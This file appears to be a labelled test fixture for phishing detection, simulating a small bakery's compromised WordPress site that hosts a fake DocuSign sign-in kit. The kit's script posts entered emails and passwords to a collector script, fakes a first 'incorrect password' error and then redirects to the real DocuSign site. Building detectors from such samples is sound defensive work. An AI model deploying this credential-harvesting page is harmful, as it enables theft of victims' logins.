import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, jsRoute, pngRoute, wpPage } from '../parts/t-kit.js';

// Reported by employees: phishing kits dropped into a small business's WordPress — dev split.

const host = 'www.oakhollowbakery.com';
const kit = '/wp-content/plugins/wp-optimize-cache/includes/ds/';

export const entries: Entry[] = [
  {
    id: 't-ph-wp-compromised-docusign',
    label: 'phishing',
    kind: 'compromised-site-kit',
    url: `https://${host}${kit}?e=dGNhcnRlckBoYXJ0d2VsbC1lbmcuY29t&env=8a21f`,
    routes: {
      [`${host}/`]: htmlRoute(wpPage({ host, biz: 'Oak Hollow Bakery', tagline: 'Sourdough, pastries &amp; custom cakes', title: 'Home', color: '#7a4e2d', content: '<h1>Fresh from our oven, every morning</h1><p>Family-owned since 2009. Order custom cakes 48 hours in advance.</p>', phone: '(608) 555-0131', address: '415 Main St, Stoughton, WI' })),
      [`${host}${kit}`]: htmlRoute(doc(
        'DocuSign Electronic Signature Service',
        `<link rel="stylesheet" href="${kit}assets/style.css"><link rel="icon" href="${kit}assets/ds.png">`,
        `<div class="top"><img src="${kit}assets/ds.png" width="24" height="24" alt=""> <b>DocuSign</b></div>
<div class="env"><div class="blue"><p>Please review and sign:</p><h2>Mutual NDA &ndash; Hartwell / Northgate Partners</h2><p class="sm">Envelope ID: 8A21F0C4-3B77-4D51-9E02-7F1A0D6C5B93</p></div>
<div class="frm"><p>Sign in with your recipient email to access the envelope.</p>
<form id="df"><input type="email" name="email" id="email" placeholder="Recipient email" required><input type="password" name="password" placeholder="Password" required><button type="submit">CONTINUE</button><div id="er" class="er"></div></form></div>
<div class="sm ft">Powered by DocuSign &middot; Alternate signing method &middot; Questions about this document? Contact the sender directly.</div></div>
<script src="${kit}assets/app.js"></script>`,
      )),
      [`${host}${kit}assets/style.css`]: { status: 200, headers: { 'content-type': 'text/css' }, body: `body{margin:0;background:#eaeaea;font-family:Helvetica,Arial,sans-serif}.top{background:#fff;padding:12px 24px;display:flex;gap:8px;align-items:center;border-bottom:1px solid #ccc}.env{max-width:600px;margin:30px auto;background:#fff}.blue{background:#214e9f;color:#fff;padding:26px;text-align:center}.frm{padding:24px}.frm input{width:100%;padding:10px;margin:6px 0;border:1px solid #aaa;box-sizing:border-box}.frm button{background:#ffc820;border:0;padding:11px 30px;font-weight:700;cursor:pointer}.sm{font-size:12px}.ft{color:#777;padding:16px 24px;border-top:1px solid #eee}.er{color:#c00;font-size:13px;margin-top:6px}` },
      [`${host}${kit}assets/ds.png`]: pngRoute(255, 200, 32),
      [`${host}${kit}assets/app.js`]: jsRoute(`(function(){var p=new URLSearchParams(location.search),e=p.get('e');try{if(e)document.getElementById('email').value=atob(e)}catch(x){}
var n=0,f=document.getElementById('df');f.onsubmit=function(ev){ev.preventDefault();n++;var d=new FormData(f);d.append('n',n);d.append('env',p.get('env')||'');
fetch('${kit}post.php',{method:'POST',body:d}).catch(function(){});f.password.value='';
if(n<2)document.getElementById('er').textContent='Your email or password is incorrect.';else location.href='https://www.docusign.com/';};})();`),
    },
  },
];
